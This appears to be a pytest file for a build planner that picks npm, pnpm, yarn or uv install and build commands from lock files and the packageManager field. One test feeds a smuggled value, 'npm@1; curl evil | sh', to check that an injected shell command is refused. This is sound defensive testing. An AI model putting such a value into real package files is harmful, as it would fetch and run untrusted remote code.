"""The commands a build runs: lock files and `packageManager` are obeyed, and contradictions are told."""

from __future__ import annotations

import json

from hosts.builder.detect import detect
from hosts.builder.plan import Plan, plan


def of(files: dict[str, str]) -> Plan:
    return plan(detect(files, files.get))


def node(lock: dict[str, str] | None = None, **fields: object) -> Plan:
    fields = {"main": "x.js", "dependencies": {"express": "5"}, **fields}
    return of({"package.json": json.dumps(fields), "x.js": "", **(lock or {})})


def commands(found: Plan) -> list[str]:
    return [step.command for step in found.steps]


def test_python_gets_an_environment_and_its_requirements() -> None:
    assert commands(of({"requirements.txt": "flask", "app.py": ""})) == [
        "uv venv --python /usr/bin/python3 /app/.venv",
        "uv pip install --python /app/.venv/bin/python -r requirements.txt",
    ]


def test_python_without_requirements_installs_nothing() -> None:
    assert of({"app.py": ""}).steps == ()


def test_npm_without_a_lock_file_installs() -> None:
    assert commands(node()) == ["npm install --no-audit --no-fund --loglevel=error"]


def test_npm_with_a_lock_file_installs_exactly_that() -> None:
    assert commands(node({"package-lock.json": "{}"}))[0].startswith("npm ci ")


def test_no_dependencies_no_install() -> None:
    assert node(dependencies={}).steps == ()


def test_the_build_script_runs_after_the_install() -> None:
    found = node({"package-lock.json": "{}"}, scripts={"build": "tsc"})
    assert [(s.phase, s.command.split()[0]) for s in found.steps] == [("installing", "npm"), ("building", "tsc")]


def test_a_build_script_with_hooks_is_left_to_npm() -> None:
    found = node({"package-lock.json": "{}"}, scripts={"build": "tsc", "prebuild": "x"})
    assert commands(found)[-1] == "npm run build"


def test_pnpm_is_chosen_by_its_lock_files_version() -> None:
    assert commands(node({"pnpm-lock.yaml": "lockfileVersion: '6.0'\n"})) == [
        "npx --yes pnpm@8 install --frozen-lockfile"
    ]
    assert commands(node({"pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}))[0].startswith("npx --yes pnpm@10 ")
    assert commands(node({"pnpm-lock.yaml": "lockfileVersion: '99.0'\n"}))[0].startswith("npx --yes pnpm@10 ")


def test_package_manager_wins_over_the_lock_files_version() -> None:
    found = node({"pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}, packageManager="pnpm@9.12.3+sha512.abc")
    assert commands(found) == ["npx --yes pnpm@9.12.3 install --frozen-lockfile"]
    assert found.notes == ()


def test_package_manager_and_lock_file_that_contradict_are_told() -> None:
    found = node({"package-lock.json": "{}"}, packageManager="pnpm@9.12.3")
    assert commands(found) == ["npx --yes pnpm@9.12.3 install --no-frozen-lockfile"]
    assert "packageManager asks for pnpm@9.12.3, but the lock file here is package-lock.json (npm)" in found.notes[0]


def test_yarn_one_and_yarn_of_today() -> None:
    assert commands(node({"yarn.lock": "# yarn lockfile v1\n"})) == ["npx --yes yarn@1.22.22 install --frozen-lockfile"]
    assert commands(node({"yarn.lock": "__metadata:\n"})) == ["npx --yes @yarnpkg/cli-dist@4 install --immutable"]
    assert commands(node({"yarn.lock": ""}, packageManager="yarn@4.5.0")) == [
        "npx --yes @yarnpkg/cli-dist@4.5.0 install --immutable"
    ]


def test_several_lock_files_are_told() -> None:
    assert "several lock files" in node({"package-lock.json": "{}", "yarn.lock": ""}).notes[0]


def test_a_package_manager_that_is_a_shell_command_is_not_obeyed() -> None:
    found = node(packageManager="npm@1; curl evil | sh")
    assert commands(found) == ["npm install --no-audit --no-fund --loglevel=error"]
    assert "is not understood" in found.notes[0]


def test_python_with_a_package_json_builds_both() -> None:
    found = of(
        {
            "requirements.txt": "flask",
            "app.py": "",
            "package.json": json.dumps({"devDependencies": {"vite": "6"}, "scripts": {"build": "vite build"}}),
        }
    )
    assert found.kind == "python"
    assert [step.phase for step in found.steps] == ["installing", "installing", "installing", "building"]
